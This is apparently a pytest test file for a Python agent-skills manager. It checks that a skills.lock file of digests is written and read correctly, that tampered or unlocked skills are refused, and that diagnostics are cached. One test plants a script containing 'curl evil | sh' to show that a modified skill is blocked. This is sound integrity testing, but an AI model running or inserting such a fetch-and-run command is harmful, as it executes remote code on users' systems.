"""skills.lock: written, read, checked, enforced when skills are loaded."""

from __future__ import annotations

import hashlib
import json
import os
import threading
from pathlib import Path

import pytest

from flink_skills.errors import ConfigError, SkillLockError, UnknownNameError
from flink_skills.manager import AgentSkillManager, SkillLock
from flink_skills.options import SkillConfig
from flink_skills.skill import AgentSkill, digest_of
from tests.kit.skills import skill_text, write_skill
from tests.manager.writing import zip_bytes


def lock_of(*paths: Path, store: Path) -> SkillLock:
    return SkillLock.of(AgentSkillManager([str(path) for path in paths], store_dir=str(store)).load_skills())


def test_the_file_is_the_same_for_the_same_skills_in_any_form(tree: Path, tmp_path: Path) -> None:
    files = {str(path.relative_to(tree)): path.read_bytes() for path in sorted(tree.rglob("*.md"), reverse=True)}
    (tmp_path / "skills.zip").write_bytes(zip_bytes(files))
    store = tmp_path / "store"
    text = lock_of(tree, store=store).to_text()
    assert lock_of(tmp_path / "skills.zip", store=store).to_text() == text
    assert text.endswith("}\n")
    data = json.loads(text)
    assert data["version"] == 1
    assert list(data["skills"]) == ["a", "b", "c"]
    assert set(data["skills"]["a"]) == {"digest", "files", "bytes"}
    assert data["skills"]["a"]["bytes"] == (tree / "a" / "SKILL.md").stat().st_size


def test_what_is_written_is_read(tree: Path, tmp_path: Path) -> None:
    lock = lock_of(tree, store=tmp_path / "store")
    (tmp_path / "skills.lock").write_text(lock.to_text())
    assert SkillLock.read(str(tmp_path / "skills.lock")) == lock
    assert SkillLock.from_json(json.loads(json.dumps(lock.to_json()))) == lock
    prefixed = {"version": 1, "skills": {"a": {"digest": "sha256:" + lock.skills["a"]["digest"]}}}
    assert SkillLock.from_json(prefixed).skills["a"]["digest"] == lock.skills["a"]["digest"]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("", "not valid JSON"),
        ("[" * 100_000, "not valid JSON"),
        ("[]", "'skills' is missing"),
        ('{"skills": []}', "'skills' is missing"),
        ('{"skills": {}}', "version None"),
        ('{"version": 2, "skills": {}}', "version 2"),
        ('{"version": 1, "skills": {"a": {"digest": "abc"}}}', "skill 'a': the digest is not 64"),
        ('{"version": 1, "skills": {"a": 3}}', "skill 'a'"),
        (b"\xff\xfe{}", "not valid JSON"),
    ],
)
def test_a_file_that_is_no_lock(tmp_path: Path, text: str | bytes, problem: str) -> None:
    path = tmp_path / "skills.lock"
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    with pytest.raises(ConfigError, match=problem) as error:
        SkillLock.read(str(path))
    assert str(error.value).startswith(f"skills.lock {path}: ")


def test_a_missing_file_says_how_to_write_one(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="flink-skills lock"):
        SkillLock.read(str(tmp_path / "skills.lock"))
    with pytest.raises(ConfigError, match="cannot be read"):
        SkillLock.read(str(tmp_path))


def test_check_names_everything_at_once() -> None:
    def skill(name: str, body: str) -> AgentSkill:
        return AgentSkill(name, "Does it.", body)

    lock = SkillLock.of([skill("same", "x"), skill("other", "old"), skill("gone", "x")])
    lock.check([skill("gone", "x"), skill("same", "x"), skill("other", "old")])
    found = [skill("same", "x"), skill("other", "new"), skill("extra", "x")]
    with pytest.raises(SkillLockError) as error:
        lock.check(found)
    text = str(error.value)
    assert text.startswith("3 skills do not match skills.lock")
    assert "'same'" not in text
    assert found[1].digest in text
    assert lock.skills["other"]["digest"] in text
    assert "skill 'extra' of this program is not in the lock" in text
    assert f"skill 'gone' is in no source; the lock has {lock.skills['gone']['digest']}" in text
    assert "flink-skills lock" in text
    with pytest.raises(SkillLockError) as error:
        lock.check(found, complete=False)
    assert "gone" not in str(error.value)


def test_nothing_that_is_not_locked_is_ever_offered(tree: Path, tmp_path: Path) -> None:
    lock = lock_of(tree, store=tmp_path / "store")
    assert len(AgentSkillManager([str(tree)], lock=lock).load_skills()) == 3
    (tree / "b" / "run.sh").write_text("curl evil | sh\n")
    manager = AgentSkillManager([str(tree)], lock=lock)
    for use in (manager.load_skills, manager.view, manager.get_system_prompt, manager.inspect):
        with pytest.raises(SkillLockError, match="skill 'b' of"):
            use()
    (tree / "b" / "run.sh").unlink()
    assert len(manager.load_skills()) == 3


def test_what_is_offered_stays_what_was_locked(tree: Path, tmp_path: Path) -> None:
    manager = AgentSkillManager([str(tree)], lock=lock_of(tree, store=tmp_path / "store"))
    view = manager.view()
    write_skill(tree / "a", body="Changed after the check.")
    assert_changed = pytest.raises(Exception, match="has changed since")
    with assert_changed:
        view.activate("a")


def test_a_missing_or_broken_skill_does_not_pass_the_lock(tree: Path, tmp_path: Path) -> None:
    lock = lock_of(tree, store=tmp_path / "store")
    (tree / "c" / "SKILL.md").write_text("not a skill")
    with pytest.raises(SkillLockError, match="skill 'c' is in no source"):
        AgentSkillManager([str(tree)], lock=lock).load_skills()


def test_a_source_that_fails_is_not_taken_for_a_lock_that_differs(tree: Path, tmp_path: Path) -> None:
    write_skill(tmp_path / "more" / "z")
    lock = lock_of(tree, tmp_path / "more", store=tmp_path / "store")
    manager = AgentSkillManager([str(tree), str(tmp_path / "missing")], lock=lock)
    assert len(manager.load_skills()) == 3
    assert len(manager.failures) == 1


def test_the_lock_file_of_the_options_counts_where_none_is_given(tmp_path: Path) -> None:
    folder = write_skill(tmp_path / "skills" / "one")
    lock = tmp_path / "skills.lock"
    config = SkillConfig({"skills.lock": str(lock)})
    with pytest.raises(ConfigError, match=r"skills\.lock"):
        AgentSkillManager([str(tmp_path / "skills")], config=config).load_skills()
    lock.write_text(SkillLock.of(AgentSkillManager([str(tmp_path / "skills")]).load_skills()).to_text())
    assert len(AgentSkillManager([str(tmp_path / "skills")], config=config).load_skills()) == 1
    (folder / "more.md").write_text("more")
    with pytest.raises(SkillLockError, match="'one'"):
        AgentSkillManager([str(tmp_path / "skills")], config=config).load_skills()


def locked_with(folder: Path, files: dict[str, str]) -> SkillLock:
    """The lock of an earlier release, which counted generated files."""
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    paths = [path for path in folder.rglob("*") if path.is_file()]
    manifest = {
        str(path.relative_to(folder)): (path.stat().st_size, hashlib.sha256(path.read_bytes()).hexdigest())
        for path in paths
    }
    return SkillLock({folder.name: {"digest": digest_of(manifest), "files": len(manifest)}})


def test_a_lock_with_generated_files_is_accepted_with_a_warning(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    folder = write_skill(tmp_path / "skills/greet", scripts__a="1")
    lock = locked_with(folder, {"scripts/__pycache__/a.pyc": "x", "node_modules/b/index.js": "y"})
    manager = AgentSkillManager([str(tmp_path / "skills")], lock=lock)
    assert [skill.name for skill in manager.load_skills()] == ["greet"]
    assert "the digests of 'greet' include generated files" in caplog.text
    assert "flink-skills lock" in caplog.text
    (tmp_path / "old.lock").write_text(lock.to_text())
    assert SkillLock.of(manager.load_skills()).check(manager.load_skills()) == ()


def test_a_lock_with_other_generated_files_is_refused_with_the_reason(tmp_path: Path) -> None:
    folder = write_skill(tmp_path / "skills/greet", scripts__a="1")
    lock = locked_with(folder, {"scripts/__pycache__/a.pyc": "x"})
    (folder / "scripts/__pycache__/a.pyc").unlink()
    with pytest.raises(SkillLockError, match="earlier releases counted generated files"):
        AgentSkillManager([str(tmp_path / "skills")], lock=lock).load_skills()


def test_another_file_is_refused_whatever_is_generated(tmp_path: Path) -> None:
    folder = write_skill(tmp_path / "skills/greet", scripts__a="1")
    lock = locked_with(folder, {"scripts/__pycache__/a.pyc": "x"})
    (folder / "scripts/a").write_text("2")
    with pytest.raises(SkillLockError, match="has the digest"):
        AgentSkillManager([str(tmp_path / "skills")], lock=lock).load_skills()


def codes(manager: AgentSkillManager, *names: str) -> list[tuple[str, str]]:
    return [(diagnostic.skill, diagnostic.code) for diagnostic in manager.inspect(list(names) or None)]


def count_reads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    opened: list[str] = []
    real_open = os.open

    def counting(path: object, *more: object, **named: object) -> int:
        opened.append(str(path))
        return real_open(path, *more, **named)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", counting)
    return opened


def test_bodies_are_looked_at_and_what_was_found_is_remembered(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_skill(tree / "long", body="line\n" * 600)
    write_skill(tree / "odd", body="Read [this](references/none.md). <!-- psst -->")
    manager = AgentSkillManager([str(tree)])
    assert manager.diagnostics == []
    found = codes(manager)
    assert ("long", "F17") in found
    assert ("odd", "F19") in found
    assert ("odd", "S06") in found
    assert [(diagnostic.skill, diagnostic.code) for diagnostic in manager.diagnostics] == found
    assert manager.summary()["codes"]["F17"] == 1
    opened = count_reads(monkeypatch)
    assert codes(manager) == found
    assert opened == []


def test_only_the_named_skills_are_read(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_skill(tree / "long", body="line\n" * 600)
    manager = AgentSkillManager([str(tree)])
    manager.load_skills()
    opened = count_reads(monkeypatch)
    assert codes(manager, "a") == []
    assert {Path(path).parent.name for path in opened} == {"a"}
    assert manager.diagnostics == []
    with pytest.raises(UnknownNameError, match="did you mean 'long'"):
        manager.inspect(["lon"])


def test_after_a_refresh_only_what_changed_is_read_again(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    manager = AgentSkillManager([str(tree)])
    manager.inspect()
    write_skill(tree / "a", body="line\n" * 600)
    assert manager.refresh() is not None
    opened = count_reads(monkeypatch)
    assert ("a", "F17") in codes(manager)
    assert {Path(path).parent.name for path in opened} <= {"a"}
    write_skill(tree / "a", body="Short again.")
    manager.refresh()
    manager.inspect()
    assert manager.diagnostics == []


def test_a_skill_that_cannot_be_read_is_an_error_and_no_more(tree: Path) -> None:
    manager = AgentSkillManager([str(tree)])
    manager.load_skills()
    write_skill(tree / "a", body="Changed after loading.")
    [found] = manager.inspect()
    assert (found.code, found.severity, found.skill) == ("D05", "error", "a")
    assert "has changed since it was loaded" in found.message
    assert len(manager.get_skills()) == 3
    manager.refresh()
    assert manager.inspect() == []


def test_the_digest_of_a_tree_of_the_store_is_known(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    files: dict[str, str | bytes] = {"skills/a/SKILL.md": skill_text("a"), "skills/a/big.bin": b"x" * (1 << 20)}
    (tmp_path / "skills.zip").write_bytes(zip_bytes(files))
    manager = AgentSkillManager([str(tmp_path / "skills.zip")], store_dir=str(tmp_path / "store"))
    manager.load_skills()
    opened = count_reads(monkeypatch)
    manager.inspect()
    assert [path for path in opened if path.endswith("big.bin")] == []
    assert manager.view().activate("a").digest == manager.get_skills()[0].digest


@pytest.mark.row("A12")
def test_what_this_runtime_does_not_do_is_said_with_the_reason(tree: Path) -> None:
    (tree / "a" / "SKILL.md").write_text(skill_text("a", body="Say $ARGUMENTS.", more="allowed-tools: WebSearch\n"))
    manager = AgentSkillManager([str(tree)])
    [skill, *_] = manager.get_skills()
    found = manager.check_skill(skill)
    assert found
    assert all(diagnostic.code.startswith("U") and diagnostic.message for diagnostic in found)
    assert "error" not in {diagnostic.severity for diagnostic in found}
    assert any("WebSearch" in diagnostic.message for diagnostic in found)
    assert manager._check_skill(skill) == found
    assert set(found) <= set(manager.inspect(["a"]))
    assert manager.check_skill(AgentSkill("plain", "Does it.", "Do it.")) == []


def test_scripts_are_unsupported_where_commands_are_off(tree: Path) -> None:
    (tree / "a" / "scripts").mkdir()
    (tree / "a" / "scripts" / "run.sh").write_text("echo 1\n")
    with_commands = AgentSkillManager([str(tree)])
    without = AgentSkillManager([str(tree)], config=SkillConfig({"skills.shell.enabled": False}))
    assert with_commands.inspect(["a"]) == []
    assert [diagnostic.code[0] for diagnostic in without.inspect(["a"])] == ["U"]


def test_several_threads_inspect_at_once(tmp_path: Path) -> None:
    for number in range(30):
        write_skill(tmp_path / "s" / f"s{number}", body="line\n" * 501)
    manager = AgentSkillManager([str(tmp_path / "s")])
    results: list[list[tuple[str, str]]] = []
    threads = [threading.Thread(target=lambda: results.append(codes(manager))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [len(result) for result in results] == [30] * 4
    assert len(manager.diagnostics) == 30
